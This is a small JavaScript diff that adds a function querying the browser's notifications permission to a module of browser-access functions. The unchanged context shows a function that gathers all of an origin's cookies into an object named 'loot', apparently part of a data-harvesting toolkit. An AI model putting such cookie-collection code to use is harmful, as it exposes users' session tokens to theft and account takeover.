@@ -27,6 +27,11 @@ export function directory_of_the_origin() {
   return navigator.storage.getDirectory().then(() => undefined);
 }
 
+/** Asks what it may do, which is work for the thread that all plugins share. */
+export function permission_query() {
+  return navigator.permissions.query({ name: "notifications" }).then(() => undefined);
+}
+
 /** Reads the cookies of the origin. */
 export async function cookies_of_the_origin({ loot }) {
   loot.take(await cookieStore.getAll());
